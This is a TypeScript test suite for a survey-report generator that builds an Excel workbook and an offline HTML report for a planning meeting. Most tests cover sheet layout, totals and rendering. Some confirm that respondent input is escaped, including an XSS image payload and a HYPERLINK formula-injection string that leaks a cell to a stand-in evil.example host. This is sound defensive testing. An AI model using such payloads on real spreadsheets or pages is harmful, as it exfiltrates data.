// The report's three files as the Secretariat gets them: the workbook read back with exceljs, the HTML
// opened in Chromium with the network cut off.
import { mkdirSync } from "node:fs";
import ExcelJS from "exceljs";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHandlebarsViews } from "../../../functions/adapters/handlebars-views.ts";
import { LISTING_LIMIT, renderInputsHtml } from "../../../functions/core/report/inputs-html.ts";
import { buildInputsReport } from "../../../functions/core/report/inputs-report.ts";
import { renderInputsXlsx } from "../../../functions/adapters/xlsx/stream-writer.ts";
import { launchChromium } from "../../support/chromium.ts";
import { campaign, member, submission } from "../../support/factories.ts";
import { INJECTION, MARKUP, members, q, submissions } from "../../unit/core/report/fixture.ts";

const views = createHandlebarsViews(new URL("../../../templates/", import.meta.url).pathname);
const SCREENS = new URL("../../artifacts/screens/", import.meta.url).pathname;

const compile = (lang: "es" | "en") => {
  const t = (key: string) => views.translate(lang, key);
  const report = buildInputsReport({
    campaign: campaign({ invited: members.map((m) => m.code), timeZone: "America/New_York" }),
    questionnaire: q,
    members,
    submissions,
    lang,
    generatedAt: new Date("2026-03-01T15:30:00Z"),
    t,
  });
  return { report, t };
};

const workbook = async (lang: "es" | "en") => {
  const { report, t } = compile(lang);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await renderInputsXlsx(report, t)) as unknown as ArrayBuffer);
  return wb;
};

/** exceljs reads conditional formats back but leaves them out of its typings. */
const ruleTypes = (sheet: ExcelJS.Worksheet | undefined) =>
  (
    sheet as unknown as { conditionalFormattings: ExcelJS.ConditionalFormattingOptions[] } | undefined
  )?.conditionalFormattings.flatMap((c) => c.rules.map((r) => r.type)) ?? [];

const rowValues = (sheet: ExcelJS.Worksheet | undefined, n: number) =>
  (sheet?.getRow(n).values as ExcelJS.CellValue[] | undefined)?.slice(1) ?? [];

describe("the Inputs workbook", () => {
  let en: ExcelJS.Workbook;
  beforeAll(async () => {
    en = await workbook("en");
  });

  it("has the report's sheets, in order, named in the compile language", async () => {
    expect(en.worksheets.map((s) => s.name)).toEqual([
      "Summary",
      "Priority topics",
      "Topics by subregion and member",
      "Expected achievements",
      "Work plan proposals",
      "Hosting and contributions",
      "RIAL",
      "Cooperation matches",
      "Comments",
      "Respondents and non-respondents",
      "All answers",
      "Receipt codes",
      "About",
    ]);
    const es = await workbook("es");
    const all = es.getWorksheet("Todas las respuestas");
    expect(rowValues(all, 1).slice(0, 2)).toEqual(["Miembro", "Código"]);
    expect([2, 3, 4, 5, 6].map((n) => all?.getRow(n).getCell(2).value)).toEqual([
      "ARG",
      "BRA",
      "CHL",
      "COSATE",
      "CEATAL",
    ]);
  });

  it("lays out All answers with a frozen header, filter buttons, and numbers as numbers", () => {
    const all = en.getWorksheet("All answers");
    expect(rowValues(all, 1).slice(0, 8)).toEqual([
      "Member",
      "Code",
      "Group",
      "Subregion",
      "Submitted at (UTC)",
      "Submitted by",
      "Version",
      "Question language",
    ]);
    expect(all?.views[0]).toMatchObject({ state: "frozen", xSplit: 2, ySplit: 1 });
    expect(all?.autoFilter).toMatch(/^A1:[A-Z]+6$/);
    const arg = all?.getRow(2);
    const header = rowValues(all, 1);
    const at = (title: string) => header.indexOf(title) + 1;
    expect(arg?.getCell(at("Question scores — alpha")).value).toBe(8);
    expect(arg?.getCell(at("Question pledge")).value).toBe(1000.1);
    expect(arg?.getCell(at("Question pledge-year")).value).toBe(2026);
    expect(arg?.getCell(5).value).toBeInstanceOf(Date);
    expect(all?.pageSetup).toMatchObject({ orientation: "landscape", fitToWidth: 1, printTitlesRow: "1:1" });
  });

  it("keeps a formula-shaped answer as the literal text it was, never a formula", () => {
    for (const name of ["Expected achievements", "All answers"]) {
      const sheet = en.getWorksheet(name);
      const cells: ExcelJS.Cell[] = [];
      sheet?.eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
      const payload = cells.find((c) => c.value === INJECTION);
      expect(payload?.type, name).toBe(ExcelJS.ValueType.String);
      expect(payload?.formula, name).toBeUndefined();
      expect(
        cells.some((c) => c.type === ExcelJS.ValueType.Formula),
        name,
      ).toBe(false);
    }
  });

  it("sorts the priority topics with data bars, and colours the topic heat map", () => {
    const topics = en.getWorksheet("Priority topics");
    expect(rowValues(topics, 1).slice(0, 8)).toEqual([
      "Rank",
      "No.",
      "Topic",
      "Working Group",
      "Average score",
      "Scores",
      "Not scored",
      "In top 2",
    ]);
    expect([2, 3, 4, 5].map((n) => rowValues(topics, n).slice(0, 2))).toEqual([
      [1, 3],
      [2, 1],
      [2, 2],
      [4, 4],
    ]);
    expect(topics?.getRow(2).getCell(5).value).toBe(5);
    expect(ruleTypes(topics)).toContain("dataBar");
    const heat = en.getWorksheet("Topics by subregion and member");
    expect(ruleTypes(heat)).toEqual(["colorScale"]);
  });

  it("totals pledges per currency and lists who answered and who did not", () => {
    const values: ExcelJS.CellValue[][] = [];
    en.getWorksheet("Hosting and contributions")?.eachRow(
      (row) => void values.push(rowValues(row.worksheet, row.number)),
    );
    expect(values).toContainEqual(["Total EUR", undefined, undefined, "Pledges: 1", 500, "EUR"]);
    expect(values).toContainEqual(["Total USD", undefined, undefined, "Pledges: 2", 3000.3, "USD"]);
    const who = en.getWorksheet("Respondents and non-respondents");
    expect(rowValues(who, 7).slice(0, 5)).toEqual([
      "Mexico",
      "MEX",
      "Governments",
      "North America",
      "Did not answer",
    ]);
  });
});

/** `count` members who all answered, each with an expected achievement of their own, as English HTML. */
const large = (count: number) => {
  const many = Array.from({ length: count }, (_, i) => member(`M${String(i).padStart(4, "0")}`));
  const report = buildInputsReport({
    campaign: campaign({ invited: many.map((m) => m.code) }),
    questionnaire: q,
    members: many,
    submissions: many.map((m) =>
      submission(m.code, { scores: { alpha: 5 }, achievements: `From ${m.code}` }),
    ),
    lang: "en",
    generatedAt: new Date("2026-03-01T15:30:00Z"),
    t: (key) => views.translate("en", key),
  });
  const text = new TextDecoder().decode(
    renderInputsHtml(report, (key) => views.translate("en", key), views.render),
  );
  return { text, codes: many.map((m) => m.code) };
};

describe("the Inputs HTML", () => {
  const { report, t } = compile("es");
  const html = new TextDecoder().decode(renderInputsHtml(report, t, views.render));
  let browser: Browser;
  beforeAll(async () => {
    mkdirSync(SCREENS, { recursive: true });
    browser = await launchChromium();
  });
  afterAll(() => browser?.close());

  it("refers to nothing outside itself and runs no script", () => {
    expect(html).not.toMatch(/<script|<link|<img|<iframe|<object|@import|url\(/i);
    // Every src or href is a link within the page; user text never becomes an attribute.
    expect(html).not.toMatch(/\s(src|href|srcset|action|poster|xlink:href)\s*=\s*(?!["']?#)/i);
    const ids = new Set([...html.matchAll(/\sid="([^"]+)"/g)].map((m) => m[1]));
    for (const [, target] of html.matchAll(/href="#([^"]+)"/g)) expect(ids, target).toContain(target);
  });

  it("comes out the same, byte for byte, from the same answers", () => {
    const again = compile("es");
    expect(new TextDecoder().decode(renderInputsHtml(again.report, again.t, views.render))).toBe(html);
  });

  it("escapes what respondents typed", () => {
    expect(html).not.toContain(MARKUP);
    expect(html).toContain("&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;");
    expect(html).toContain("&#x3D;HYPERLINK(&quot;http://evil.example/?leak&#x3D;&quot;&amp;A1");
  });

  it("ends with every answer of every member, up to the listing limit, in order", () => {
    for (const code of ["ARG", "BRA", "CHL", "COSATE", "CEATAL"])
      expect(html).toContain(`id="member-${code}"`);
    expect(html).not.toContain("consulta:");
    // As many members as the limit, several batches of the appendix: each one appears once, in order.
    const { text, codes } = large(LISTING_LIMIT);
    const ids = [...text.matchAll(/<article class="member" id="member-(M\d+)"/g)].map((m) => m[1]);
    expect(ids).toEqual(codes);
    expect(text).toContain(`From ${codes.at(-1)}`);
    expect(text).not.toContain("With 100 members who answered");
  });

  it("beyond the limit keeps every figure and who answered, and says where each listing is", () => {
    const { text, codes } = large(LISTING_LIMIT + 1);
    expect(text).not.toContain('<article class="member"');
    expect(text).not.toContain("From M0000");
    expect(text).not.toContain("consulta:");
    const note = (sheet: string) =>
      `With ${LISTING_LIMIT + 1} members who answered (more than ${LISTING_LIMIT}), this document does not list their answers one by one: they are in the sheet “${sheet}” of the Excel workbook, and in the CSV file.`;
    for (const sheet of ["All answers", "Expected achievements", "Topics by subregion and member"])
      expect(text).toContain(note(sheet));
    // Who answered stays complete, and the figures are all there.
    for (const code of codes) expect(text).toContain(`<td>Member ${code}</td>`);
    expect(text).toContain(`${LISTING_LIMIT + 1} answered`);
  });
  it("has a cover in the report's language saying when it was updated, for people", () => {
    expect(html).toContain("Insumos para la Reunión de Planeación");
    expect(html).toContain("Actualizado el 1 de marzo de 2026");
    // Each language has its own report now: the Spanish one no longer carries the English cover.
    expect(html).not.toContain("Inputs for the Planning Meeting");
    expect(html).toMatch(/<svg[^>]*viewBox/);
    expect(html).toMatch(/@media print[\s\S]*break-before: page/);
  });

  it("opens in Chromium without a single request, and fits a phone's width", async () => {
    const context = await browser.newContext({ viewport: { width: 375, height: 800 } });
    const page = await context.newPage();
    const requests: string[] = [];
    await page.route("**/*", (route) => {
      requests.push(route.request().url());
      return route.abort();
    });
    await page.setContent(html, { waitUntil: "load" });
    expect(requests).toEqual([]);
    // Wide tables scroll inside their own box; the page itself never scrolls sideways.
    expect(await page.evaluate<number>("document.documentElement.scrollWidth")).toBeLessThanOrEqual(375);
    await page.screenshot({ path: `${SCREENS}report-phone.png`, fullPage: true });
    await page.setViewportSize({ width: 1200, height: 900 });
    await page.screenshot({ path: `${SCREENS}report-desktop.png`, fullPage: true });
    await page.emulateMedia({ media: "print" });
    await page.pdf({ path: `${SCREENS}report-print.pdf`, format: "A4" });
    await context.close();
  });
});
